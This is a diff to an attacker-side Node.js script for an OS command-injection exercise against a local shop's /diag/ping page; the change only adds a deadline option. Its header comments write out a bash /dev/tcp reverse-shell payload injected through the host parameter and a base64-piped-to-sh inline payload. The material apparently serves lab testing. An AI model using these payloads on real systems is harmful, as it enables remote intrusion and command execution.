@@ -1,9 +1,9 @@
 // Attacker side of the OS command injection (CWE-78) against the shop's /diag/ping page.
 //
-//   node revshell.mjs --mode shell  --commands FILE [--port 4444] [--timeout MS]
+//   node revshell.mjs --mode shell  --commands FILE [--port 4444] [--timeout MS | --deadline EPOCH_MS]
 //     listens on 127.0.0.1:PORT, injects `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` through the
 //     ping host parameter, then types the commands of FILE into the reverse shell.
-//   node revshell.mjs --mode inline --script FILE [--timeout MS]
+//   node revshell.mjs --mode inline --script FILE [--timeout MS | --deadline EPOCH_MS]
 //     injects `echo BASE64 | base64 -d | sh` (the script of FILE) and reads the page's output.
 //
 // Prints a JSON summary on stdout: {"connected": …, "output": "…"}.
@@ -16,7 +16,9 @@ const args = parseArgs(process.argv.slice(2));
 const port = Number(args.port ?? 4444);
 const timeout = Number(args.timeout ?? 10_000);
 const web = { host: '127.0.0.1', port: Number(args['web-port'] ?? 8080) };
-const deadline = Date.now() + timeout;
+// --deadline (epoch ms) is the lab's own: node's start-up under load can take a second, and a
+// deadline counted from here would outlive the lab's, which kills us before the summary.
+const deadline = args.deadline !== undefined ? Number(args.deadline) : Date.now() + timeout;
 
 function get(path) {
   return new Promise((resolve) => {
